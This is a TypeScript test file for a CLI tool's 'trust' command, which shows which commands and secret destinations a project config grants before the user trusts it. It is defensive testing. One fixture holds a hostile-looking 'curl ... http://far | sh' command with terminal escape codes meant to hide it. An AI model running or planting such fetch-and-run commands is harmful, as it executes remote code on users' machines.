import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { runLaketop } from './harness.ts';

let folder = '';
let path = '';
beforeEach(() => {
	folder = mkdtempSync(join(tmpdir(), 'laketop-trust-'));
	path = join(folder, 'laketop.yaml');
	writeFileSync(path, 'notify:\n  command: "true \\x1b[2J"\n');
});
afterEach(() => rmSync(folder, { recursive: true }));

const trust = (words: readonly string[], input?: string) =>
	runLaketop(['trust', ...words], {
		environment: { XDG_DATA_HOME: join(folder, 'data') },
		workingDirectory: folder,
		...(input === undefined ? {} : { input }),
	});

test('trust shows what the file would do, and asks where somebody can answer', async () => {
	const asked = await trust([path]);
	expect(asked).toMatchObject({ exitCode: 4, stdout: '' });
	expect(asked.stderr).toContain(`${path}:2: notify.command: runs this command: true `);
	expect(asked.stderr).toContain('Pass --yes to confirm');
	expect(asked.stderr).not.toContain('\x1b');
	expect((await trust(['--list'])).stdout).toBe('No trusted files\n');
});

test('what is trusted is listed until the trust is removed', async () => {
	expect((await trust([path, '--yes'])).stderr).toContain(`${path} is trusted until it changes`);
	expect((await trust([path])).stderr).toContain('already trusted');
	expect((await trust(['--list'])).stdout).toBe(`trusted  ${path}\n`);
	writeFileSync(path, 'theme: mono\n');
	expect((await trust(['--list'])).stdout).toBe(`changed  ${path}\n`);
	expect((await trust([path, '--remove'])).stderr).toContain('is no longer trusted');
	expect((await trust(['--list'])).stdout).toBe('No trusted files\n');
});

test('the preview shows each value that is granted: secrets masked, control characters as escapes', async () => {
	writeFileSync(
		path,
		`docker_host: ssh://ops:secret1@far
project: theirs
compose_file: ../other/compose.yaml
airflow:
  url: http://far:8080
mlflow:
  token_command: "curl --token hidden2 http://far \\e[2K\\r| sh"
notify:
  webhook: https://far.example/hooks/hidden3
  command: "mail\\n ops"
`,
	);
	const { stderr } = await runLaketop(['trust', path], {
		environment: { XDG_DATA_HOME: join(folder, 'data'), LAKETOP_AIRFLOW_PASSWORD: 'hidden4' },
	});
	const shown = Object.fromEntries(
		stderr.split('\n').flatMap(line => {
			const [, key, rest] = /laketop\.yaml:\d+: ([\w.]+): (.*)$/.exec(line) ?? [];
			return key === undefined ? [] : [[key, rest]];
		}),
	);
	expect(shown).toEqual({
		docker_host: 'chooses the engine, and so where credentials are sent: ssh://ops@far',
		project: 'sends the secret mlflow.token_command to the servers of this project: theirs',
		compose_file: `names a file outside its folder: ${join(folder, '..', 'other', 'compose.yaml')}`,
		'airflow.url': 'sends the secret LAKETOP_AIRFLOW_PASSWORD to this address: http://far:8080',
		'mlflow.token_command': 'runs this command: curl --token ••• http://far \\u{1b}[2K\\u{d}| sh',
		'notify.webhook': 'sends findings to this address: https://far.example/•••',
		'notify.command': 'runs this command: mail\\u{a} ops',
	});
	expect(stderr).not.toMatch(/secret1|hidden/);
});

test('without a laketop.yaml it says which file was looked for, and what to do', async () => {
	rmSync(path);
	const absent = await trust([]);
	expect(absent).toMatchObject({ exitCode: 2, stdout: '' });
	expect(absent.stderr).toBe(
		`laketop: No laketop.yaml in ${folder}. To trust another file, name it: laketop trust FILE.\n`,
	);
	expect((await trust(['other.yaml'])).stderr).toMatch(/other\.yaml: cannot be read \(no such file\)/);
});

test('a file outside the folder is shown with where its link leads', async () => {
	symlinkSync('/etc/hostname', join(folder, 'link'));
	writeFileSync(path, 'airflow: { password_file: link }\n');
	expect((await trust([path])).stderr).toContain(
		`names a file outside its folder: ${folder}/link (links to /etc/hostname)`,
	);
});

test.each([
	['YAML that is broken', 'airflow: [1\n', /laketop\.yaml:2:1: /],
	['an unknown option', 'themee: x\n', /laketop\.yaml:1: themee: unknown option/],
	['an address that is none', 'docker_host: garbage\n', /laketop\.yaml:1: docker_host: garbage is not the address/],
	['a profile that is not there', 'profile: nope\n', /there is no profile nope/],
	['a key for no action', 'keys: { nosuch: x }\n', /keys\.nosuch/],
	[
		'a fault in a profile that is not in force',
		'profiles: { p: { keys: { nosuch: x } } }\n',
		/profiles\.p\.keys\.nosuch|keys\.nosuch/,
	],
])('a file with %s is not trusted: exit code 2 and the error', async (_what, text, error) => {
	writeFileSync(path, text);
	const ran = await trust([path, '--yes']);
	expect(ran.exitCode).toBe(2);
	expect(ran.stderr).toMatch(error);
	expect((await trust(['--list'])).stdout).toBe('No trusted files\n');
});

test('a file is checked without reading a secret or running a command', async () => {
	writeFileSync(path, 'airflow: { password_file: ../nosuch }\nmlflow: { token_command: "false" }\n');
	expect((await trust([path, '--yes'])).exitCode).toBe(0);
});
